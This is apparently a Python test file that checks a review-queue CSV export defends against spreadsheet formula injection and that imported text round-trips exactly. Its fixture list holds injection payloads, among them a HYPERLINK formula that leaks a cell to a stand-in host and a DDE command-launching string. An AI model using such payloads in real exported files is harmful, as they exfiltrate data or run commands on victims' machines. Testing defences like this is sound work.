"""Review export as CSV: shopper and answer text that a spreadsheet would run as a formula is
neutralised with a leading single quote (OWASP CSV injection), and import restores every text
exactly; the JSONL export is unchanged."""

from __future__ import annotations

import csv
import io
import json

import pytest

from fmquality.adapters.review_queue import LocalReviewQueue
from fmquality.production.review import ReviewItem
from fmquality.production.review_exchange import (EXPORT_COLUMNS, apply_verdicts, export_text, neutralize_cell,
                                                  parse_verdicts, restore_cell)

DANGEROUS = [
    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")",
    "=1+1",
    "+81 90-1234-5678 に電話して",
    "-5% off? =cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝ＳＵＭ（Ａ１）",
    "＋１",
    "－３０％オフですか",
    "＠channel",
    "﹦1+1",
]
TRICKY = [
    "'=already quoted",
    "''+two quotes",
    "'plain quote",
    "''",
    "'",
    "",
    "Ship to 1234 Elm St = fine?",
    "普通の質問です。",
    "line one\nline two",
    "carriage\rreturn inside",
]


def _item(i: int, query: str, response: str, notes: str | None = None) -> ReviewItem:
    return ReviewItem(run_id="run1", test_id=f"t{i:03d}", intent="faq", locale="ja-JP", reason="failing",
                      judge_passed=False, judge_composite=0.4, threshold=0.7, query=query, response=response,
                      notes=notes, reviewer=notes)


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_start_is_neutralised(text):
    assert neutralize_cell(text) == "'" + text
    assert restore_cell(neutralize_cell(text)) == text


@pytest.mark.parametrize("text", DANGEROUS + TRICKY)
def test_neutralise_then_restore_is_the_identity(text):
    assert restore_cell(neutralize_cell(text)) == text
    out = neutralize_cell(text)
    assert out.lstrip("'")[:1] == text.lstrip("'")[:1]  # never a new leading character other than quotes
    assert not (out[:1] in set("=+-@\t\r＝＋－＠﹦﹢﹣﹫") and out)  # no exported cell starts a formula


def test_csv_export_neutralises_query_response_and_notes_and_the_jsonl_is_unchanged():
    texts = DANGEROUS + TRICKY
    items = [_item(i, q, texts[-1 - i], notes=texts[i]) for i, q in enumerate(texts)]
    rows = _cells(export_text(items, "csv"))
    assert list(rows[0]) == EXPORT_COLUMNS
    for row in rows:
        for column in ("query", "response", "notes", "reviewer", "judge_reasons", "run_id", "test_id"):
            assert row[column][:1] not in set("=+-@\t\r＝＋－＠﹦﹢﹣﹫"), (column, row[column])
    by_id = {r["test_id"]: r for r in rows}
    assert by_id["t000"]["query"] == "'" + DANGEROUS[0]
    already = f"t{len(DANGEROUS):03d}"  # TRICKY[0], "'=already quoted": one more quote, removed on import
    assert by_id[already]["query"] == "''=already quoted"
    jsonl = [json.loads(line) for line in export_text(items, "jsonl").splitlines()]
    assert [(r["query"], r["response"], r["notes"]) for r in jsonl] == [(i.query, i.response, i.notes) for i in items]


def test_import_restores_every_text_exactly(tmp_path):
    texts = DANGEROUS + TRICKY
    items = [_item(i, q, q, notes=q) for i, q in enumerate(texts)]
    queue = LocalReviewQueue(tmp_path)
    queue.add(items)
    exported = export_text(queue.items(), "csv")
    # A reviewer fills acceptable in a spreadsheet and saves: CRLF line ends, every other cell as exported.
    rows = _cells(exported)
    for row in rows:
        row["acceptable"] = "no"
    path = tmp_path / "filled.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=EXPORT_COLUMNS, lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)
    verdicts, errors, blank = parse_verdicts(path)
    assert not errors and blank == 0 and len(verdicts) == len(texts)
    updated, more = apply_verdicts(queue.items(), verdicts, str(path), now="2026-11-23T00:00:00+00:00")
    assert not more
    by_id = {i.test_id: i for i in updated}
    for i, text in enumerate(texts):
        assert by_id[f"t{i:03d}"].notes == (text if text.strip() else None)  # notes exactly; blank is none
        assert by_id[f"t{i:03d}"].reviewer == (text.strip() or None)  # a reviewer's name is trimmed


def test_round_trip_of_query_and_response_through_the_csv_reader(tmp_path):
    from fmquality.production.review_exchange import csv_rows

    texts = DANGEROUS + TRICKY
    items = [_item(i, q, texts[-1 - i]) for i, q in enumerate(texts)]
    got = {row["test_id"]: row for _, row in csv_rows(export_text(items, "csv"))}
    for item in items:
        assert got[item.test_id]["query"] == item.query and got[item.test_id]["response"] == item.response
